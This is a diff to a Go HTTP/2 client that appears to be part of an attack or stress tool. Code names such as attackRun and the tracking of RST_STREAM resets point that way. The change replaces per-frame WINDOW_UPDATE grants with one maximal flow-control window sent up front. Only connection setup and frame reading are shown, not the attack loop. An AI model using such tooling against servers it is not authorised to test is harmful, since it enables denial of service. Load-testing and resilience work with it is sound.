@@ -26,6 +26,8 @@ import (
 const (
 	writeBufferSize   = 32 << 10
 	maxReadHeaderList = 64 << 10
+	// maxWindow is the largest flow-control window (2^31-1).
+	maxWindow = 1<<31 - 1
 	// flushEvery: an unpaced loop flushes at least every this many frames.
 	flushEvery = 64
 	// resetReportEvery: RST_STREAM counts are reported at most this often
@@ -53,7 +55,6 @@ type conn struct {
 
 	frames, streams atomic.Int64
 	stopping        atomic.Bool // we are closing: read errors are ours
-	grantWindow     bool
 	answerPings     bool
 
 	settingsC  chan struct{} // closed at the server's first SETTINGS
@@ -128,7 +129,7 @@ func dialConn(ctx context.Context, a *attackRun, idx int, addr string, t Target,
 	if err != nil {
 		return nil, fmt.Errorf("connection %d: dial %s: %w", idx, addr, err)
 	}
-	c := &conn{idx: idx, run: a, nc: nc, next: 1, maxFr: 16384, grantWindow: grantWindow, answerPings: true,
+	c := &conn{idx: idx, run: a, nc: nc, next: 1, maxFr: 16384, answerPings: true,
 		settingsC: make(chan struct{}), done: make(chan struct{}),
 		resets: map[http2.ErrCode]int64{}, pendingRST: map[http2.ErrCode]int64{}, statusEnds: map[string]int64{}}
 	c.bw = bufio.NewWriterSize(nc, writeBufferSize)
@@ -140,10 +141,20 @@ func dialConn(ctx context.Context, a *attackRun, idx int, addr string, t Target,
 	// not read by then fails with a timeout (WriteBlocked).
 	_ = nc.SetWriteDeadline(a.deadline.Add(time.Second))
 
+	if grantWindow {
+		// The largest windows up front, on every stream and the
+		// connection: nothing the server sends ever waits for a grant,
+		// and no WINDOW_UPDATE is owed later (a client that granted per
+		// DATA frame would flood control frames of its own).
+		settings = append([]http2.Setting{{ID: http2.SettingInitialWindowSize, Val: maxWindow}}, settings...)
+	}
 	c.wmu.Lock()
 	_, err = io.WriteString(c.bw, http2.ClientPreface)
 	if err == nil {
 		err = c.fr.WriteSettings(settings...)
+	}
+	if err == nil && grantWindow {
+		err = c.fr.WriteWindowUpdate(0, maxWindow-65535)
 	}
 	if err == nil {
 		err = c.bw.Flush()
@@ -309,8 +320,8 @@ var errIDsExhausted = errors.New("stream ids used up on this connection")
 
 // readLoop reads every frame the server sends, records what it means and
 // drops it. It answers the server's SETTINGS and PINGs (unless
-// answerPings is off) and grants window for DATA when grantWindow is set.
-// It ends when the connection does; then done is closed.
+// answerPings is off); window is granted once, up front (dialConn). It
+// ends when the connection does; then done is closed.
 func (c *conn) readLoop() {
 	defer close(c.done)
 	first := true
@@ -392,16 +403,6 @@ func (c *conn) readLoop() {
 						c.mu.Unlock()
 					}
 				}
-			}
-		case *http2.DataFrame:
-			if n := len(f.Data()); n > 0 && c.grantWindow {
-				id := f.StreamID
-				c.ack(func(fr *http2.Framer) error {
-					if err := fr.WriteWindowUpdate(0, uint32(n)); err != nil {
-						return err
-					}
-					return fr.WriteWindowUpdate(id, uint32(n))
-				})
 			}
 		}
 	}
